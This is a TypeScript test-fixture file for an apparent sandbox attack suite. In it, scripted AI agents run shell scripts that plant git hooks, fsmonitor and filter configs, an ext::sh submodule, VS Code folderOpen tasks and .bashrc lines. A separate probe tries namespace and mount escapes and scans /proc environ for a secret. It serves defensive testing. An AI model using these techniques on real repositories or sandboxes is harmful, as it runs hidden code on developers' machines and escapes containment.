// The attack suite's fixtures: the identities it runs murmur as (root, and uid/gid 65534), one case folder per test
// (a workspace in /tmp and a host folder outside it under test-output/, with the planted code's payload, a marker
// folder, an "outside" folder and a HOME), package.json's bin spawned as that identity, the developer's own git run on
// the host as that identity, and the hook-free checks of a git directory (config, hooks, info/attributes read as
// files: nothing planted runs while the test looks).
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execa, type ResultPromise } from 'execa';
import type { Script } from '../../orchestrator/models/scripted.js';
import type { MurmurEvent } from '../../orchestrator/events.js';
import { readSavedState } from '../../orchestrator/saved-state.js';
import { readSessionTranscripts } from '../../orchestrator/session.js';
import { MURMUR_BIN, ROOT } from '../murmur-bin.js';
import { readEvents, removeDir, tempDir } from '../swarm/helpers.js';

/** Who runs murmur (and the developer's git after it). */
export interface Identity {
  name: string;
  uid: number;
  gid: number;
}

const ROOT_ID: Identity = { name: 'root', uid: 0, gid: 0 };
const NOBODY: Identity = { name: 'uid 65534', uid: 65534, gid: 65534 };

/**
 * Root (CI is root) and an unprivileged user (uid/gid 65534, spawned through setpriv). A runner that is not root
 * cannot become either: it runs the attacks as itself (an unprivileged user too) and says so.
 */
export function identities(): Identity[] {
  const uid = process.getuid?.() ?? -1;
  if (uid === 0) return [ROOT_ID, NOBODY];
  console.warn(
    `the attack suite runs as root and as uid 65534 only when started as root (CI is); here it runs as uid ${uid} only`,
  );
  return [{ name: `uid ${uid} (the runner)`, uid, gid: process.getgid?.() ?? uid }];
}

/** The value the test puts in murmur's environment: planted code that runs must never see it. */
export const SECRET = `sk-attack-${process.pid}-${Math.random().toString(36).slice(2, 10)}`;
export const DATABASE_URL = 'postgres://attack:hunter2@db.internal:5432/prod';
const SECRET_ENV = { OPENAI_API_KEY: SECRET, DATABASE_URL };

/** Whether the runner can switch to `who` (itself, or anyone when root). */
function switches(who: Identity): boolean {
  return who.uid !== (process.getuid?.() ?? -1);
}

/** The argv prefix that runs a program as `who`. */
function asArgv(who: Identity, argv: string[]): [string, string[]] {
  if (!switches(who)) return [argv[0]!, argv.slice(1)];
  return ['setpriv', ['--reuid', String(who.uid), '--regid', String(who.gid), '--clear-groups', '--', ...argv]];
}

/**
 * Why `who` cannot run the bin here (node or /work/main not readable to it, setpriv missing), or undefined.
 * `node BIN --version` as that user: the bundle and the node_modules it loads must be readable by it.
 */
export function cannotRunAs(who: Identity): string | undefined {
  if (!switches(who)) return undefined;
  const [cmd, args] = asArgv(who, [process.execPath, MURMUR_BIN, '--version']);
  const ran = spawnSync(cmd, args, { encoding: 'utf8', cwd: '/', env: { ...process.env, HOME: '/' } });
  if (ran.status === 0) return undefined;
  return (
    `${who.name} cannot run \`node ${MURMUR_BIN} --version\` (${ran.error?.message ?? ran.stderr.trim()}): ` +
    `node, ${ROOT} and its node_modules must be readable (and its folders searchable) by every user`
  );
}

/** One attack's folders. `host` is outside the workspace and not under /tmp (a sandbox has a private /tmp). */
export interface AttackCase {
  who: Identity;
  /** The workspace murmur runs in (under the system's temp folder, like the other end-to-end suites). */
  workspace: string;
  /** ROOT/test-output/attacks-…: the payload, the scripts, marker/, outside/, home/. */
  host: string;
  /** Where planted code records that it ran (one file per run, with its environment). */
  marker: string;
  /** A host folder outside the workspace: writes into it must fail. */
  outside: string;
  /** HOME for murmur and for the developer's git: empty, owned by the identity. */
  home: string;
  /** The program every planted hook, filter, fsmonitor, diff program and MCP server runs. */
  payload: string;
}

/** The payload: records that it ran (label, user, folder) and its whole environment in a marker file. */
function payloadScript(marker: string): string {
  return [
    '#!/bin/sh',
    '# Planted by an attack: if this file ran on the host, the attack worked.',
    'label="${1:-unknown}"',
    `out="${marker}/ran-$label-$$"`,
    '{ echo "planted code ran: $label"; echo "uid=$(id -u) pwd=$(pwd)"; echo "--- env"; env; } > "$out" 2>/dev/null',
    // A clean/smudge filter must give its input back; git feeds a reference-transaction hook on stdin.
    'case "$label" in filter-*) cat ;; hook-reference-transaction) cat > /dev/null ;; esac',
    'exit 0',
    '',
  ].join('\n');
}

export async function makeCase(who: Identity, name: string): Promise<AttackCase> {
  const workspace = await tempDir(`murmur-attack-${name}-`);
  mkdirSync(path.join(ROOT, 'test-output'), { recursive: true });
  const host = mkdtempSync(path.join(ROOT, 'test-output', `attacks-${name}-`));
  for (const tmp of [os.tmpdir(), '/tmp']) {
    if (host === tmp || host.startsWith(`${tmp}/`))
      throw new Error(
        `the attack suite's host folder ${host} is under ${tmp}, which a sandboxed command cannot see (it has a private /tmp): run the suite from a checkout outside /tmp`,
      );
  }
  chmodSync(host, 0o755);
  const c: AttackCase = {
    who,
    workspace,
    host,
    marker: path.join(host, 'marker'),
    outside: path.join(host, 'outside'),
    home: path.join(host, 'home'),
    payload: path.join(host, 'payload.sh'),
  };
  for (const dir of [c.marker, c.outside, c.home]) mkdirSync(dir, { recursive: true });
  writeFileSync(c.payload, payloadScript(c.marker));
  chmodSync(c.payload, 0o755);
  return c;
}

/** Removes the case's folders (ATTACKS_KEEP=1 keeps them, and prints where, to look at what an attack left). */
export async function removeCase(c: AttackCase): Promise<void> {
  if (process.env.ATTACKS_KEEP) {
    console.warn(`kept: workspace ${c.workspace}, host folder ${c.host}`);
    return;
  }
  await removeDir(c.workspace);
  rmSync(c.host, { recursive: true, force: true });
}

/** A file in the case's host folder (read-only inside the sandbox): scripts for the model and for the agents. */
export function hostFile(c: AttackCase, name: string, content: string, mode = 0o644): string {
  const file = path.join(c.host, name);
  writeFileSync(file, content);
  chmodSync(file, mode);
  return file;
}

export function scriptFile(c: AttackCase, script: Script, name = 'model.json'): string {
  return hostFile(c, name, JSON.stringify(script, null, 2));
}

/** An agent (of the role, or any) whose one turn runs `command` in bash, then answers `text`. */
export function bashAgent(command: string, match: { role?: string; prompt?: string } = {}, text = 'done') {
  return { match, turns: [{ toolCalls: [{ name: 'bash', arguments: { command } }] }, { text }] };
}

function chownTree(file: string, who: Identity): void {
  const stat = lstatSync(file);
  if (stat.isSymbolicLink()) return;
  chownSync(file, who.uid, who.gid);
  if (stat.isDirectory()) for (const entry of readdirSync(file)) chownTree(path.join(file, entry), who);
}

/** Gives the workspace and the host folder to the identity (before every process that runs as it). */
export function own(c: AttackCase): void {
  if (!switches(c.who)) return;
  chownTree(c.workspace, c.who);
  chownTree(c.host, c.who);
}

/** The environment murmur and the developer's shell have: the runner's without MURMUR_*, HOME, and the secrets. */
function environment(c: AttackCase, extra: Record<string, string> = {}): Record<string, string> {
  const env: Record<string, string> = {};
  for (const [k, v] of Object.entries(process.env))
    if (v !== undefined && !k.startsWith('MURMUR_') && !k.startsWith('VITEST') && k !== 'XDG_RUNTIME_DIR') env[k] = v;
  const user: Record<string, string> = switches(c.who)
    ? { USER: c.who.uid === 0 ? 'root' : 'nobody', LOGNAME: c.who.uid === 0 ? 'root' : 'nobody' }
    : {};
  return { ...env, ...user, HOME: c.home, GIT_TERMINAL_PROMPT: '0', ...SECRET_ENV, ...extra };
}

/**
 * package.json's bin in the workspace as the case's identity, never rejecting: the exit code and output are the
 * result. Its pid (the same process through setpriv, which execs) is written to `<host>/murmur.pid`.
 */
export function murmurAs(
  c: AttackCase,
  args: string[],
  extra: Record<string, string> = {},
): ResultPromise<{ reject: false }> {
  own(c);
  const [cmd, argv] = asArgv(c.who, [process.execPath, MURMUR_BIN, ...args]);
  const child = execa(cmd, argv, {
    reject: false,
    cwd: c.workspace,
    env: environment(c, extra),
    extendEnv: false,
    stdin: 'ignore',
    timeout: 90_000,
  });
  if (child.pid !== undefined) writeFileSync(path.join(c.host, 'murmur.pid'), String(child.pid));
  return child as unknown as ResultPromise<{ reject: false }>;
}

export interface HostRun {
  status: number | null;
  stdout: string;
  stderr: string;
}

/** A command on the host, in the workspace, as the identity (the developer after the run), with the secrets in env. */
export function hostAs(c: AttackCase, argv: string[], cwd = c.workspace): HostRun {
  own(c);
  const [cmd, args] = asArgv(c.who, argv);
  const ran = spawnSync(cmd, args, {
    cwd,
    env: environment(c),
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: 30_000,
  });
  return { status: ran.status, stdout: ran.stdout ?? '', stderr: ran.stderr ?? ran.error?.message ?? '' };
}

/** git as the developer, on the host. */
export function devGit(c: AttackCase, ...args: string[]): HostRun {
  return hostAs(c, ['git', ...args]);
}

/** A repository with one commit of `files`, made as the identity (so its own git trusts it). */
export function repoAs(c: AttackCase, files: Record<string, string>): string {
  for (const [file, content] of Object.entries(files)) {
    const abs = path.join(c.workspace, file);
    mkdirSync(path.dirname(abs), { recursive: true });
    writeFileSync(abs, content);
  }
  const steps = [
    ['init', '-q', '-b', 'main'],
    ['add', '-A'],
    ['-c', 'user.name=dev', '-c', 'user.email=dev@localhost', '-c', 'commit.gpgsign=false', 'commit', '-qm', 'initial'],
  ];
  for (const step of steps) {
    const ran = devGit(c, ...step);
    if (ran.status !== 0) throw new Error(`git ${step.join(' ')} failed: ${ran.stderr}`);
  }
  return revParse(c, 'refs/heads/main');
}

/** One more commit of `files` on the current branch, as the identity; returns the new HEAD. */
export function commitAs(c: AttackCase, files: Record<string, string>, message: string): string {
  for (const [file, content] of Object.entries(files)) writeFileSync(path.join(c.workspace, file), content);
  for (const step of [
    ['add', '-A'],
    ['-c', 'user.name=dev', '-c', 'user.email=dev@localhost', '-c', 'commit.gpgsign=false', 'commit', '-qm', message],
  ]) {
    const ran = devGit(c, ...step);
    if (ran.status !== 0) throw new Error(`git ${step.join(' ')} failed: ${ran.stderr}`);
  }
  return revParse(c, 'HEAD');
}

/** A ref's commit, read without running anything planted (rev-parse runs no hook, filter or fsmonitor). */
export function revParse(c: AttackCase, ref: string): string {
  const ran = devGit(c, 'rev-parse', '--verify', '-q', ref);
  return ran.status === 0 ? ran.stdout.trim() : `(no ${ref})`;
}

/** The developer's everyday commands after the run: what a planted hook, filter, fsmonitor or diff program hooks into. */
export function developerCommands(c: AttackCase): { command: string; run: HostRun }[] {
  const who = ['-c', 'user.name=dev', '-c', 'user.email=dev@localhost', '-c', 'commit.gpgsign=false'];
  const commands: string[][] = [
    ['status'],
    ['diff'],
    ['diff', 'HEAD'],
    ['add', '-A'],
    [...who, 'commit', '-qm', 'the developer commits', '--allow-empty'],
    ['checkout', '-q', '-b', 'developer-check'],
  ];
  return commands.map((args) => ({ command: `git ${args.join(' ')}`, run: devGit(c, ...args) }));
}

export interface Marker {
  file: string;
  text: string;
  sawSecret: boolean;
}

/** The markers planted code left, oldest first. */
export function markers(c: AttackCase): Marker[] {
  if (!existsSync(c.marker)) return [];
  return readdirSync(c.marker)
    .sort()
    .map((name) => {
      const text = readFileSync(path.join(c.marker, name), 'utf8');
      return { file: name, text, sawSecret: text.includes(SECRET) || text.includes(DATABASE_URL) };
    });
}

/** One line per kind of planted code that ran (its label), with how often, as whom, and whether it saw the secrets. */
export function describeMarkers(found: readonly Marker[], when: string): string[] {
  const groups = new Map<string, { count: number; uids: Set<string>; sawSecret: boolean }>();
  for (const m of found) {
    const label = /^planted code ran: (.*)$/m.exec(m.text)?.[1] ?? m.file;
    const group = groups.get(label) ?? { count: 0, uids: new Set<string>(), sawSecret: false };
    group.count++;
    group.uids.add(/^uid=(\d+)/m.exec(m.text)?.[1] ?? '?');
    group.sawSecret ||= m.sawSecret;
    groups.set(label, group);
  }
  return [...groups].map(
    ([label, g]) =>
      `planted code ran ${when}: ${label} (${g.count}x, as uid ${[...g.uids].join('/')}` +
      (g.sawSecret ? `, and it saw OPENAI_API_KEY=${SECRET} / DATABASE_URL)` : ', without the secrets)'),
  );
}

/** Clears the marker folder (between phases, so each phase's markers are told apart). */
export function takeMarkers(c: AttackCase, when: string): string[] {
  const found = markers(c);
  for (const m of found) rmSync(path.join(c.marker, m.file), { force: true });
  return describeMarkers(found, when);
}

const PLANTED_CONFIG =
  /^(core\.fsmonitor|core\.hookspath|core\.sshcommand|core\.pager|core\.editor|core\.worktree|filter\.|diff\.external|diff\.[^.]+\.(textconv|command)|merge\.[^.]+\.driver|include\.|includeif\.|alias\.|uploadpack\.|sequence\.editor)/i;

/** The planted keys of a git config file, read as a file (git config --file runs nothing). */
export function plantedConfig(c: AttackCase, file: string): string[] {
  if (!existsSync(file)) return [];
  const ran = devGit(c, 'config', '--file', file, '--list');
  if (ran.status !== 0) return [`${file}: unreadable (${ran.stderr.trim()})`];
  return ran.stdout
    .split('\n')
    .filter((line) => PLANTED_CONFIG.test(line))
    .map((line) => `${file}: ${line}`);
}

/**
 * What is planted in a git directory, looked at as files: its config and its worktrees' config.worktree, hooks that
 * are not git's samples, info/attributes, and every worktree's commondir pointing elsewhere.
 */
export function plantedInGitDir(c: AttackCase, gitDir: string): string[] {
  const found: string[] = [];
  found.push(...plantedConfig(c, path.join(gitDir, 'config')));
  found.push(...plantedConfig(c, path.join(gitDir, 'config.worktree')));
  const hooks = path.join(gitDir, 'hooks');
  if (existsSync(hooks))
    for (const name of readdirSync(hooks)) if (!name.endsWith('.sample')) found.push(`${hooks}/${name} (a hook)`);
  const attributes = path.join(gitDir, 'info', 'attributes');
  if (existsSync(attributes)) found.push(`${attributes}: ${readFileSync(attributes, 'utf8').trim()}`);
  const worktrees = path.join(gitDir, 'worktrees');
  if (existsSync(worktrees)) {
    for (const name of readdirSync(worktrees)) {
      found.push(...plantedConfig(c, path.join(worktrees, name, 'config.worktree')));
      const commondir = path.join(worktrees, name, 'commondir');
      if (existsSync(commondir)) {
        const target = path.resolve(path.join(worktrees, name), readFileSync(commondir, 'utf8').trim());
        if (target !== gitDir) found.push(`${commondir} points at ${target}`);
      }
    }
  }
  return found;
}

/** The events of murmur's --events file. */
export function eventsIn(file: string): MurmurEvent[] {
  return readEvents(file);
}

export interface ToolOutcome {
  agentId: string;
  role: string;
  tool: string;
  isError: boolean;
  text: string;
  arguments: string;
}

/** Every tool result of every agent of the run's sessions, from the transcripts (with the agent's role from events). */
export function toolOutcomes(c: AttackCase, events: readonly MurmurEvent[] = []): ToolOutcome[] {
  const roles = new Map<string, string>();
  for (const e of events) if (e.type === 'agent.start') roles.set(e.agentId, e.role);
  const sessions = path.join(c.workspace, '.murmur', 'sessions');
  const out: ToolOutcome[] = [];
  if (!existsSync(sessions)) return out;
  for (const session of readdirSync(sessions)) {
    // Agents with their own transcript file, and swarm items (packed): every agent the state, events or folder name.
    const dir = path.join(sessions, session);
    const agents = path.join(dir, 'agents');
    // Through the one reader: a swarm's settled agents are in its settled log, not in state.json.
    const read = readSavedState(dir);
    const saved = read.ok ? read.state.agents : undefined;
    const ids = new Set([
      ...roles.keys(),
      ...(saved ?? []).map((a) => a.id),
      ...(existsSync(agents) ? readdirSync(agents) : []),
    ]);
    for (const [agentId, transcript] of readSessionTranscripts(dir, ids)) {
      const calls = new Map<string, string>();
      for (const read of transcript.messages) {
        const message = read as unknown as {
          role: string;
          toolCalls?: { id: string; arguments: string }[];
          toolCallId?: string;
          toolName?: string;
          isError?: boolean;
          content?: { type: string; text?: string }[];
        };
        for (const call of message.toolCalls ?? []) calls.set(call.id, call.arguments);
        if (message.role === 'tool')
          out.push({
            agentId,
            role: roles.get(agentId) ?? '?',
            tool: message.toolName ?? '?',
            isError: message.isError === true,
            text: (message.content ?? []).map((b) => b.text ?? '').join(''),
            arguments: calls.get(message.toolCallId ?? '') ?? '',
          });
      }
    }
  }
  return out;
}

/** The files in a folder (for "nothing was written outside"). */
export function filesIn(dir: string): string[] {
  return existsSync(dir) ? readdirSync(dir).sort() : [];
}

// --- The attackers: shell scripts an agent's bash runs (they live in the host folder, read-only to the sandbox).
// Each step prints `planted: …` or `refused: …` (the transcript shows which held); none stops the script.

const SHELL_PRELUDE = [
  'tried() { if [ "$1" = 0 ]; then echo "planted: $2"; else echo "refused: $2"; fi; }',
  // hook DIR NAME: an executable hook that runs the payload.
  'hook() { mkdir -p "$1" 2>/dev/null; printf \'#!/bin/sh\\n%s hook-%s "$@"\\nexit 0\\n\' "$payload" "$2" > "$1/$2" 2>/dev/null && chmod +x "$1/$2" 2>/dev/null; tried $? "$1/$2"; }',
  'conf() { git "$@" > /dev/null 2>&1; tried $? "git $*"; }',
  'put() { printf \'%s\\n\' "$2" > "$1" 2>/dev/null; tried $? "$1"; }',
];

/**
 * A swarm item's bash in its worktree (`$1` = its item): finds the main repository's git dir and plants, per item,
 * what would run on the host; then edits its item file like an honest worker (and commits it, for hooks-commit.txt).
 */
export function worktreeAttackScript(payload: string): string {
  return [
    '#!/bin/sh',
    'item="$1"',
    `payload='${payload}'`,
    ...SHELL_PRELUDE,
    'common=$(git rev-parse --path-format=absolute --git-common-dir)',
    'own=$(git rev-parse --path-format=absolute --git-dir)',
    'main=$(dirname "$common")',
    'echo "item=$item common=$common own=$own"',
    'case "$item" in',
    '  hooks.txt|hooks-commit.txt)',
    '    for h in post-commit pre-commit post-checkout reference-transaction post-merge; do hook "$common/hooks" "$h"; done ;;',
    '  fsmonitor.txt) conf config core.fsmonitor "$payload fsmonitor" ;;',
    '  filter.txt)',
    '    conf config filter.x.clean "$payload filter-clean"',
    '    conf config filter.x.smudge "$payload filter-smudge"',
    "    put .gitattributes '* filter=x' ;;",
    '  diffext.txt) conf config diff.external "$payload diff-external" ;;',
    '  hookspath.txt)',
    // Hooks in a folder of its own work, which the merge copies into the main tree, and hooksPath pointing there.
    '    for h in pre-commit post-commit post-checkout; do hook evil-hooks "$h"; done',
    '    conf config core.hooksPath "$main/evil-hooks" ;;',
    '  attributes.txt)',
    '    mkdir -p "$common/info" 2>/dev/null',
    '    put "$common/info/attributes" \'* filter=x diff=x\' ;;',
    '  commondir.txt)',
    // A copy of the repository's git dir in its own worktree, with a planted config and hooks, made the common dir.
    '    cp -a "$common" "$PWD/evil-common" 2>/dev/null',
    '    git config --file "$PWD/evil-common/config" core.fsmonitor "$payload fsmonitor-evil-common"',
    '    for h in pre-commit post-commit post-checkout; do hook "$PWD/evil-common/hooks" "$h"; done',
    '    put "$own/commondir" "$PWD/evil-common" ;;',
    '  dotgit.txt)',
    '    cp -a "$common" "$PWD/evil-gitdir" 2>/dev/null',
    '    git config --file "$PWD/evil-gitdir/config" core.fsmonitor "$payload fsmonitor-evil-gitdir"',
    '    for h in pre-commit post-commit post-checkout; do hook "$PWD/evil-gitdir/hooks" "$h"; done',
    '    put .git "gitdir: $PWD/evil-gitdir" ;;',
    '  refs.txt)',
    // Waits for the sibling (victim.txt) to have its branch, then moves main and every other item branch to a commit
    // of its own (or, if it cannot commit, to main's parent: a commit that exists already).
    '    me=$(basename "$own"); others=""; i=0',
    '    while [ $i -lt 60 ]; do others=$(git for-each-ref --format="%(refname)" refs/heads/murmur/ | grep -v "/$me\\$"); [ -n "$others" ] && break; sleep 0.1; i=$((i+1)); done',
    '    echo "siblings: $others"',
    '    echo evil > evil-from-refs.txt',
    '    if git add evil-from-refs.txt && git -c user.name=evil -c user.email=evil@localhost -c commit.gpgsign=false commit -qm evil > /dev/null 2>&1; then',
    '      evil=$(git rev-parse HEAD); git reset -q --hard HEAD~1',
    '    else rm -f evil-from-refs.txt; git reset -q; evil=$(git rev-parse refs/heads/main~1); fi',
    '    conf update-ref refs/heads/main "$evil"',
    '    for ref in $others; do conf update-ref "$ref" "$evil"; done ;;',
    'esac',
    'echo "edit by $item" >> "$item"',
    'if [ "$item" = hooks-commit.txt ]; then',
    '  git add -A && git -c user.name=w -c user.email=w@localhost -c commit.gpgsign=false commit -qm "$item" && echo committed || echo "commit failed"',
    'fi',
    'exit 0',
    '',
  ].join('\n');
}

/**
 * The agent of `murmur run --sandbox` in a repository (`$1` = plant | replace): `plant` writes the repository's
 * hooks, config and info/attributes and creates the workspace's protected files; `replace` moves `.git` aside and
 * makes a new one with a planted config and hooks.
 */
export function runAttackScript(payload: string): string {
  return [
    '#!/bin/sh',
    `payload='${payload}'`,
    ...SHELL_PRELUDE,
    'case "$1" in',
    '  plant)',
    '    for h in pre-commit post-commit post-checkout; do hook .git/hooks "$h"; done',
    '    conf config core.fsmonitor "$payload fsmonitor"',
    '    conf config filter.x.clean "$payload filter-clean"',
    '    mkdir -p .git/info 2>/dev/null',
    "    put .git/info/attributes '* filter=x'",
    '    printf \'[submodule "evil"]\\n\\tpath = evil\\n\\turl = ext::sh -c %s\\n\' "$payload" > .gitmodules 2>/dev/null; tried $? .gitmodules',
    '    mkdir -p .vscode 2>/dev/null',
    '    printf \'{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"%s vscode","runOptions":{"runOn":"folderOpen"}}]}\\n\' "$payload" > .vscode/tasks.json 2>/dev/null; tried $? .vscode/tasks.json',
    '    put .envrc "$payload envrc"',
    '    printf \'%s bashrc\\n\' "$payload" >> .bashrc 2>/dev/null; tried $? .bashrc ;;',
    '  replace)',
    '    mv .git .git-old 2>/dev/null; tried $? "mv .git .git-old"',
    '    git init -q 2>/dev/null; tried $? "git init"',
    '    conf config core.fsmonitor "$payload fsmonitor-new-git"',
    '    for h in pre-commit post-commit; do hook .git/hooks "$h"; done ;;',
    'esac',
    'echo "work" > work.txt',
    'exit 0',
    '',
  ].join('\n');
}

/** Root's ways out of the sandbox, each printed as `name=value` into caps.txt in the workspace. */
export function capsProbeScript(c: AttackCase, port: number): string {
  const pidFile = path.join(c.host, 'murmur.pid');
  const connect = `require('net').connect(${port}, '127.0.0.1').on('connect', () => { console.log('net=connected'); process.exit(0); }).on('error', (e) => console.log('net=' + e.code))`;
  return [
    '#!/bin/sh',
    'out="$PWD/caps.txt"',
    '{',
    'echo "capeff=$(awk \'/^CapEff/ {print $2}\' /proc/self/status)"',
    'echo "sid=$(cut -d" " -f6 /proc/self/stat)"',
    'if mount -o remount,rw,bind / 2>/dev/null; then echo remount=done; else echo remount=refused; fi',
    `if echo x > '${c.outside}/after-remount' 2>/dev/null; then echo outside=written; else echo outside=refused; fi`,
    'if umount -l /tmp 2>/dev/null; then echo umount_tmp=done; else echo umount_tmp=refused; fi',
    'if umount -l /proc 2>/dev/null; then echo umount_proc=done; else echo umount_proc=refused; fi',
    `if grep -q -s -F '${SECRET}' /proc/[0-9]*/environ 2> /dev/null; then echo environ=found; else echo environ=not-found; fi`,
    `i=0; while [ ! -s '${pidFile}' ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done`,
    `pid=$(cat '${pidFile}' 2>/dev/null)`,
    `if [ -n "$pid" ] && nsenter --net=/proc/$pid/ns/net -- true 2>/dev/null; then echo nsenter=done; nsenter --net=/proc/$pid/ns/net -- node -e "${connect}"; else echo nsenter=refused; echo net=not-tried; fi`,
    'if unshare -U -r true 2>/dev/null; then echo userns=made; else echo userns=refused; fi',
    '} > "$out" 2>&1',
    'exit 0',
    '',
  ].join('\n');
}
